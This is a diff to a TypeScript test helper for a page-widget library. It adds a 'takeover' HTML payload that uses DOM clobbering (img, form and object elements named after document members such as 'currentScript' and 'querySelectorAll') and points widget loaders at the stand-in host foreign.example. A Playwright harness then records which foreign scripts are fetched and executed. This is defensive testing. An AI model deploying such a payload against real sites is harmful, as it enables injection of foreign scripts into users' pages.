@@ -1,7 +1,11 @@
 /**
+ * What a contributor may write against the widgets of a page.
+ *
  * Attributes that HTML lets an author write on any element, as data: a block may pass one on to its widget only where
  * the widget documents it.
  */
+import type { Browser } from 'playwright-core';
+import { expect } from 'vitest';
 
 /** The event handler content attributes of the HTML standard (any element, body, clipboard), of CSS, pointers, touch, selection, full screen. */
 export const HANDLERS = `
@@ -82,4 +86,49 @@ export function arrived(names: readonly string[]): readonly string[] {
   }
   const { executed = [] } = globalThis as unknown as { executed?: readonly string[] };
   return [...found, ...executed.map((name) => `executed ${name}`)];
+}
+
+const FOREIGN = 'https://foreign.example';
+
+/**
+ * Returns a text whose names hide members of the document, and whose elements say what the site alone may say.
+ * @param pdf address of a file of the site: WordPress keeps no other object
+ */
+export const takeover = (pdf: string): string => {
+  const tiles = `${FOREIGN}/{z}/{x}/{y}.png`;
+  const names = ['currentScript', 'scripts', 'scripts', 'baseURI', 'body', 'querySelectorAll'];
+  const images = names.map(
+    (name) => `<img name="${name}" src="${FOREIGN}/image.js" data-src="${FOREIGN}/a.json" alt="">`,
+  );
+  return `${images.join('')}<form name="querySelectorAll"></form><object id="scripts" type="application/pdf" data="${pdf}"></object>
+<div data-ess="member-map" data-ess-tiles="${tiles}" data-ess-tiles-consent="granted" data-ess-reference="${FOREIGN}/a.json" data-ess-loader="${FOREIGN}/a.js"></div>
+<ess-provider hosts="foreign.example" max-bytes="1" tiles="${tiles}" reference="${FOREIGN}/a.json"><ess-member-map tiles="${tiles}" tiles-consent="granted"></ess-member-map></ess-provider>`;
+};
+
+/** Opens a page with {@link takeover}. Returns its widgets with their states, what a foreign server was asked for but the images, and its scripts that ran. */
+export async function takenOver(browser: Browser, address: string) {
+  const page = await browser.newPage();
+  const asked: string[] = [];
+  await page.route(`${FOREIGN}/**`, async (route) => {
+    asked.push(route.request().url());
+    await route.fulfill({
+      contentType: 'text/javascript',
+      headers: { 'access-control-allow-origin': '*' },
+      body: '(globalThis.executed??=[]).push("foreign")',
+    });
+  });
+  await page.goto(address);
+  const widgets = (): Promise<readonly string[]> =>
+    page.evaluate(() =>
+      [...Document.prototype.querySelectorAll.call(document, '[data-ess] > *, ess-provider > *')].map(
+        (one) => `${one.localName} ${(one as Element & { readonly state?: string }).state}`,
+      ),
+    );
+  await expect
+    .poll(async () => (await widgets()).filter((one) => /loading|undefined/.test(one)), { timeout: 30_000 })
+    .toEqual([]);
+  const executed = await page.evaluate(() => (globalThis as { executed?: readonly string[] }).executed ?? []);
+  const found = { widgets: await widgets(), asked: asked.filter((url) => !url.endsWith('/image.js')), executed };
+  await page.close();
+  return found;
 }
